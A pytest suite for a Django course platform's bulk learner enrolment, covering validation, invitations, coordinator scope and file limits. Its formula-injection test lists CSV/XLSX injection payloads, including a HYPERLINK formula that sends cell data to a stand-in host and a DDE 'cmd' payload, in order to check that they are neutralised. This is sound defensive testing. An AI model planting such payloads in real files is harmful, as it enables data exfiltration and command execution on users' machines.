"""Bulk enrolment from CSV/XLSX: preview with per-row errors, all-or-nothing
apply, invitations, coordinator scope and formula injection (F01-F04)."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError

from courses import bulk, services
from courses.models import BulkEnrolment, Enrolment
from training_platform.accounts.factories import UserFactory
from training_platform.accounts.models import Country, User

pytestmark = pytest.mark.django_db

HEADER = "email,full name,country,organisation,position\n"


def upload(text, name="learners.csv", encoding="utf-8"):
    return SimpleUploadedFile(name, text.encode(encoding))


def preview(course, by, text, **kwargs):
    batch = services.bulk_enrolment_upload(
        course=course, by=by, uploaded_file=upload(text, **kwargs)
    )
    return batch, bulk.check_rows(rows=batch.rows, course=course, by=by)


def test_good_file_creates_accounts_enrols_and_invites(
    course, administrator, mailoutbox, django_capture_on_commit_callbacks
):
    existing = UserFactory(email="existing@example.org")
    batch, check = preview(
        course,
        administrator,
        HEADER
        + "new.person@example.org,Марија Јовановић,RS,Labour Inspectorate,Inspector\n"
        + "EXISTING@example.org,,,,\n",
    )
    assert check.valid
    assert [r.action for r in check.rows] == ["create", "enrol"]
    with django_capture_on_commit_callbacks(execute=True):
        services.bulk_enrolment_apply(batch=batch, by=administrator)
    new = User.objects.get(email="new.person@example.org")
    assert new.full_name == "Марија Јовановић" and new.country.code == "RS"
    assert not new.has_usable_password()
    assert new.organisation.name == "Labour Inspectorate"
    assert not new.organisation.verified
    assert Enrolment.objects.get(user=new).source == "invite"
    assert Enrolment.objects.get(user=existing).source == "bulk"
    assert len(mailoutbox) == 2
    invitation = next(m for m in mailoutbox if m.to == [new.email])
    link = re.search(r"https?://\S+/accounts/password/reset/key/\S+", invitation.body)
    assert link, invitation.body
    assert course.title in invitation.subject
    other = next(m for m in mailoutbox if m.to == [existing.email])
    assert "password/reset" not in other.body


def test_invitation_link_lets_the_new_learner_set_a_password(
    client, course, administrator, mailoutbox, django_capture_on_commit_callbacks
):
    batch, _check = preview(course, administrator, HEADER + "a@example.org,A B,RS,,\n")
    with django_capture_on_commit_callbacks(execute=True):
        services.bulk_enrolment_apply(batch=batch, by=administrator)
    link = re.search(r"http://[^/]+(/\S+)", mailoutbox[0].body).group(1)
    response = client.get(link, follow=True)
    assert response.status_code == 200
    form_url = response.redirect_chain[-1][0] if response.redirect_chain else link
    response = client.post(
        form_url,
        {"password1": "a-long-new-password-1", "password2": "a-long-new-password-1"},
    )
    assert response.status_code == 302
    assert User.objects.get(email="a@example.org").check_password(
        "a-long-new-password-1"
    )


def test_bad_rows_are_reported_and_nothing_is_applied(course, administrator):
    text = (
        HEADER
        + "good@example.org,Good Person,RS,,\n"
        + "not-an-email,Bad Email,RS,,\n"
        + "nocountry@example.org,No Country,Atlantis,,\n"
        + "noname@example.org,,RS,,\n"
    )
    batch, check = preview(course, administrator, text)
    assert not check.valid
    errors = {r.line: r.errors for r in check.rows}
    assert errors[2] == []
    assert "valid e-mail" in str(errors[3][0])
    assert "Unknown country" in str(errors[4][0])
    assert "full name is missing" in str(errors[5][0])
    with pytest.raises(services.BulkEnrolmentInvalid):
        services.bulk_enrolment_apply(batch=batch, by=administrator)
    assert not User.objects.filter(email="good@example.org").exists()
    assert not Enrolment.objects.exists()
    assert BulkEnrolment.objects.get().status == "preview"


def test_duplicate_emails_by_case_and_unicode_are_ignored_once(course, administrator):
    """F03: normalised, deduplicated, deterministic."""
    text = (
        HEADER
        + "Dup@Example.org,First,RS,,\n"
        + "dup@example.org,Second,RS,,\n"
        + "ｄｕｐ@example.org,Third,RS,,\n"
    )
    batch, check = preview(course, administrator, text)
    assert [r.action for r in check.rows] == ["create", "skip", "skip"]
    assert check.valid
    services.bulk_enrolment_apply(batch=batch, by=administrator)
    assert User.objects.get(email="dup@example.org").full_name == "First"


def test_coordinator_cannot_enrol_learners_of_another_country(course, coordinator):
    """F04/E01: rows of countries the coordinator does not coordinate are
    refused, new or existing accounts alike, and nothing is applied."""
    UserFactory(email="kazakh@example.org", country=Country.objects.get(code="KZ"))
    text = (
        HEADER
        + "serb@example.org,Serbian Learner,RS,,\n"
        + "new.kazakh@example.org,Kazakh Learner,KZ,,\n"
        + "kazakh@example.org,,,,\n"
    )
    batch, check = preview(course, coordinator, text)
    assert check.rows[0].errors == []
    assert "not one of your countries" in str(check.rows[1].errors[0])
    assert "full name is missing" in str(check.rows[2].errors[0])
    with pytest.raises(services.BulkEnrolmentInvalid):
        services.bulk_enrolment_apply(batch=batch, by=coordinator)
    assert not User.objects.filter(email="serb@example.org").exists()


def test_formula_injection_is_stored_as_text_and_neutralised_in_reports(
    client, course, administrator, mfa
):
    """F01: cells starting with = + - @ tab or CR stay text; CSV reports
    prefix them with an apostrophe, XLSX reports write string cells."""
    payloads = [
        '=HYPERLINK("http://x/?d="&A1)',
        "=cmd|'/c calc'!A1",
        "+1",
        "-1+2",
        "@SUM(A1)",
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for i, payload in enumerate(payloads):
        writer.writerow([f"f{i}@example.org", payload, "RS", "", payload])
    rows = buffer.getvalue()
    batch, check = preview(course, administrator, HEADER + rows)
    assert check.valid
    mfa(administrator)
    client.force_login(administrator)
    report = client.get(f"/en/coordinator/enrolments/bulk/{batch.pk}/report.csv")
    assert report.status_code == 200
    cells = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    names = [row[2] for row in cells[1:]]
    assert all(name.startswith("'") for name in names), names
    from openpyxl import load_workbook

    xlsx = client.get(f"/en/coordinator/enrolments/bulk/{batch.pk}/report.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    for row in sheet.iter_rows(min_row=2):
        assert row[2].data_type == "s"
    services.bulk_enrolment_apply(batch=batch, by=administrator)
    user = User.objects.get(email="f0@example.org")
    assert user.position == payloads[0]


def _preview_results(client, url):
    """The preview table as the coordinator sees it: {e-mail: other cells}."""
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(client.get(url).content.decode(), "html.parser")
    results = {}
    for tr in soup.select("table.bulk-rows tbody tr"):
        cells = [" ".join(td.get_text(" ").split()) for td in tr.find_all("td")]
        results[cells[1]] = (tr.get("class"), cells[2:])
    return results


def test_preview_does_not_tell_which_addresses_have_accounts_elsewhere(
    client, course, coordinator, mfa, mailoutbox, django_capture_on_commit_callbacks
):
    """E01: an address with an account in another country reads exactly like
    an address without an account, in the preview, the report and the result,
    and applying the file leaves that account alone."""
    kazakhstan = Country.objects.get(code="KZ")
    elsewhere = {
        f"kz{n}@example.org": UserFactory(
            email=f"kz{n}@example.org", country=kazakhstan, full_name="Kazakh"
        )
        for n in range(3)
    }
    rows = ["", "Some Person,RS,Unknown Org,Clerk", "Some Person,KZ,,"]
    text = HEADER
    for n, tail in enumerate(rows):
        text += f"kz{n}@example.org,{tail or ',,,'}\n"
        text += f"nobody{n}@example.org,{tail or ',,,'}\n"
    mfa(coordinator)
    client.force_login(coordinator)
    response = client.post(
        "/en/coordinator/enrolments/bulk/",
        {"course": course.pk, "file": upload(text)},
    )
    preview_url = response["Location"]
    results = _preview_results(client, preview_url)
    for n in range(3):
        assert results[f"kz{n}@example.org"] == results[f"nobody{n}@example.org"]
    assert "full name is missing" in results["kz0@example.org"][1][-1]
    assert "New account, invited" in results["kz1@example.org"][1][-1]
    assert "not one of your countries" in results["kz2@example.org"][1][-1]
    report = client.get(preview_url + "report.csv").content.decode("utf-8-sig")
    lines = {line.split(",")[1]: line.split(",")[2:] for line in report.splitlines()}
    for n in range(3):
        assert lines[f"kz{n}@example.org"] == lines[f"nobody{n}@example.org"]

    # Only the rows that read as valid for both remain; applying them says the
    # same about both addresses and changes nothing about the other account.
    text = HEADER + "kz1@example.org,Some Person,RS,,\nnobody1@example.org,Other,RS,,\n"
    response = client.post(
        "/en/coordinator/enrolments/bulk/",
        {"course": course.pk, "file": upload(text)},
    )
    with django_capture_on_commit_callbacks(execute=True):
        page = client.post(response["Location"], {"action": "apply"}, follow=True)
    assert "2 new accounts invited, 0 existing learners enrolled" in (
        page.content.decode()
    )
    account = User.objects.get(email="kz1@example.org")
    assert account.country == kazakhstan and account.full_name == "Kazakh"
    assert account.password == elsewhere["kz1@example.org"].password
    assert not Enrolment.objects.filter(user=account).exists()
    assert Enrolment.objects.filter(user__email="nobody1@example.org").exists()
    assert [m.to for m in mailoutbox] == [["nobody1@example.org"]]


def test_xlsx_utf16_and_semicolon_files_are_read(course, administrator):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["E-mail", "Full name", "Country", "Organisation", "Position"])
    sheet.append(["x1@example.org", "Xlsx Person", "Serbia", "", ""])
    sheet.append(["x2@example.org", "=1+1", "Сербия", "", ""])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = bulk.read_rows(SimpleUploadedFile("people.xlsx", buffer.getvalue()))
    assert [r["country"] for r in rows] == ["Serbia", "Сербия"]
    assert rows[1]["full_name"] == "=1+1"
    rows = bulk.read_rows(
        upload("email;full name;country\ny@example.org;Y Z;RS\n", encoding="utf-16")
    )
    assert rows == [
        {"line": 2, "email": "y@example.org", "full_name": "Y Z", "country": "RS"}
    ]


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("people.pdf", b"%PDF", "CSV or XLSX"),
        ("people.csv", b"", "empty"),
        ("people.csv", b"name,country\nA,RS\n", "name the columns"),
        ("people.csv", "email\nä@x.org\n".encode("latin-1"), "UTF-8"),
        ("people.xlsx", b"PK\x03\x04 not a zip", "XLSX"),
        ("people.csv", b"email\n" + b"a@example.org\n" * 5001, "5000"),
    ],
)
def test_unreadable_files_are_refused_with_a_reason(name, data, message):
    """F02: explicit encoding, size and row caps."""
    with pytest.raises(bulk.BulkFileError) as error:
        bulk.read_rows(SimpleUploadedFile(name, data))
    assert message in str(error.value.message)


def _xlsx(sheet_xml: str) -> bytes:
    """A minimal workbook around one hand-written sheet."""
    import zipfile

    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas'
            '.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
            'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
            'schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
            'name="People" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
            'schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def _sheet(rows: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )


HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c></row>'
PERSON_ROW = (
    '<row r="2"><c r="A2" t="inlineStr"><is><t>a@example.org</t></is></c></row>'
)


@pytest.mark.timeout(60)
def test_xlsx_declaring_the_whole_sheet_is_read_quickly():
    """F02: a tiny XLSX that declares A1:XFD1048576 costs the rows and columns
    actually read, which are capped (blank ones included), not minutes."""
    import time

    small = _xlsx(_sheet(HEADER_ROW + PERSON_ROW))
    far = _xlsx(
        _sheet(HEADER_ROW + PERSON_ROW + '<row r="1048576"><c r="XFD1048576"/></row>')
    )
    assert len(far) < 2000
    started = time.monotonic()
    rows = bulk.read_rows(SimpleUploadedFile("people.xlsx", small))
    assert rows == [{"line": 2, "email": "a@example.org"}]
    with pytest.raises(bulk.BulkFileError) as error:
        bulk.read_rows(SimpleUploadedFile("people.xlsx", far))
    assert "empty rows included" in str(error.value.message)
    assert time.monotonic() - started < 5


def test_reading_a_file_is_bounded_in_time(monkeypatch):
    """F02: past the time limit the file is refused with a reason."""
    monkeypatch.setattr(bulk, "MAX_READ_SECONDS", 0)
    with pytest.raises(bulk.BulkFileError) as error:
        bulk.read_rows(upload(HEADER + "a@example.org,A,RS,,\n"))
    assert "took too long" in str(error.value.message)


def test_capacity_is_checked_for_the_whole_file(administrator):
    from courses.factories import build_course

    course = build_course(modules=1, lessons=1, capacity=1)
    batch, check = preview(
        course, administrator, HEADER + "a@example.org,A,RS,,\nb@example.org,B,RS,,\n"
    )
    assert not check.valid and "places left" in str(check.errors[0])


def test_applying_twice_is_a_no_op(course, administrator):
    batch, _check = preview(course, administrator, HEADER + "a@example.org,A,RS,,\n")
    services.bulk_enrolment_apply(batch=batch, by=administrator)
    services.bulk_enrolment_apply(batch=batch, by=administrator)
    assert Enrolment.objects.count() == 1


# ------------------------------------------------------------------ pages


def test_coordinator_uploads_previews_and_applies(client, course, coordinator, mfa):
    mfa(coordinator)
    client.force_login(coordinator)
    response = client.get("/en/coordinator/enrolments/bulk/")
    assert response.status_code == 200
    response = client.post(
        "/en/coordinator/enrolments/bulk/",
        {"course": course.pk, "file": upload(HEADER + "p@example.org,P Q,RS,,\n")},
    )
    assert response.status_code == 302
    preview_url = response["Location"]
    page = client.get(preview_url).content.decode()
    assert "p@example.org" in page and "Enrol these learners" in page
    assert not User.objects.filter(email="p@example.org").exists()
    client.post(preview_url, {"action": "apply"})
    assert Enrolment.objects.filter(user__email="p@example.org").exists()


def test_another_coordinators_batch_is_not_found(client, course, coordinator, mfa):
    from training_platform.accounts.factories import CoordinatorFactory

    batch, _check = preview(course, coordinator, HEADER + "p@example.org,P,RS,,\n")
    other = CoordinatorFactory(countries=list(Country.objects.filter(code="RS")))
    mfa(other)
    client.force_login(other)
    url = f"/en/coordinator/enrolments/bulk/{batch.pk}/"
    assert client.get(url).status_code == 404
    assert client.post(url, {"action": "apply"}).status_code == 404
    assert client.get(url + "report.csv").status_code == 404


def test_learners_cannot_reach_coordinator_pages(client, learner):
    client.force_login(learner)
    assert client.get("/en/coordinator/enrolments/").status_code == 403
    assert client.get("/en/coordinator/enrolments/bulk/").status_code == 403


def test_approval_queue_shows_only_the_coordinators_countries(client, coordinator, mfa):
    from courses.factories import build_course

    course = build_course(modules=1, lessons=1, enrolment_mode="approval")
    serbian = UserFactory(full_name="Serbian Learner")
    kazakh = UserFactory(
        full_name="Kazakh Learner", country=Country.objects.get(code="KZ")
    )
    own = services.enrolment_create(user=serbian, course=course, source="self")
    foreign = services.enrolment_create(user=kazakh, course=course, source="self")
    mfa(coordinator)
    client.force_login(coordinator)
    page = client.get("/en/coordinator/enrolments/").content.decode()
    assert "Serbian Learner" in page and "Kazakh Learner" not in page
    assert (
        client.post(f"/en/coordinator/enrolments/{foreign.pk}/approve/").status_code
        == 404
    )
    client.post(f"/en/coordinator/enrolments/{own.pk}/approve/")
    own.refresh_from_db()
    foreign.refresh_from_db()
    assert own.status == "active" and foreign.status == "pending"


# ------------------------------------------------------------------ command


def test_enrol_bulk_command(tmp_path, course, capsys):
    good = tmp_path / "good.csv"
    good.write_text(HEADER + "cmd@example.org,Command Person,AL,,\n")
    call_command("enrol_bulk", str(good), "--course", course.slug)
    assert Enrolment.objects.filter(user__email="cmd@example.org").exists()
    bad = tmp_path / "bad.csv"
    bad.write_text(HEADER + "ok@example.org,OK,RS,,\nbad@example.org,Bad,ZZ,,\n")
    with pytest.raises(CommandError, match="nothing was changed"):
        call_command("enrol_bulk", str(bad), "--course", course.slug)
    assert not User.objects.filter(email="ok@example.org").exists()
    assert "Unknown country" in capsys.readouterr().out


def test_first_row_and_countries_in_any_offered_language_are_read(
    course, administrator
):
    """A coordinator whose interface is Ukrainian or Georgian names the columns
    and the countries in that language, as the form's own labels read."""
    from django.utils import translation

    from training_platform.accounts.models import User

    labels = {}
    for code in ("uk", "ka"):
        with translation.override(code):
            labels[code] = [
                str(User._meta.get_field(name).verbose_name).capitalize()
                for name in ("email", "full_name", "country", "organisation")
            ]
            labels[code].append(str(Country.objects.get(code="GE")))
    assert labels["uk"][0] != "E-mail address" and labels["ka"][2] != "Country"
    for code, names in labels.items():
        text = ",".join(names[:4]) + f"\n{code}@example.org,Ніна,{names[4]},\n"
        rows = bulk.read_rows(upload(text))
        assert rows == [
            {
                "line": 2,
                "email": f"{code}@example.org",
                "full_name": "Ніна",
                "country": names[4],
                "organisation": "",
            }
        ]
        check = bulk.check_rows(rows=rows, course=course, by=administrator)
        assert check.rows[0].country_id == Country.objects.get(code="GE").pk
        assert not check.rows[0].errors
